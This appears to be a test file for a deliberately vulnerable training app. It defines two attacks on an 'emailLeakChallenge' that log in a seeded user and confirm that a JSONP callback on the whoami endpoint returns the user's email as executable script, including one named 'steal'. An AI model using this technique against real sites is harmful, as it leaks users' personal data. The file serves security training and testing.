import type { Attack, Tools } from '#lab'

/** Does what a foreign page does with a script element: the browser adds the cookie itself. */
async function include({ http, settings, expect }: Tools, callback: string, headers: object): Promise<void> {
  const account = { email: `jim@${settings.domain}`, password: 'ncc-1701' }
  const login = await http.post('/rest/user/login', account)
  expect(login.status === 200, `the login answered with ${login.status}`)
  const { token } = login.json<{ authentication: { token: string } }>().authentication
  const answer = await http.get(`/rest/user/whoami?callback=${callback}`, {
    headers: { ...headers, cookie: `token=${token}` },
  })
  const isScript = answer.headers['content-type']?.startsWith('text/javascript') ?? false
  expect(isScript, 'the answer is no script')
  expect(answer.text.includes(`${callback}({"user":{`), `it does not call ${callback}`)
  expect(answer.text.includes(account.email), 'there is no address in it')
}

export const attacks: Attack[] = [
  {
    challenge: 'emailLeakChallenge',
    name: 'have the answer handed to a function',
    run: (tools) => include(tools, 'func', {}),
  },
  {
    challenge: 'emailLeakChallenge',
    name: 'a script on a page that sends no Referer',
    run: (tools) => include(tools, 'steal', { 'sec-fetch-dest': 'script' }),
  },
]
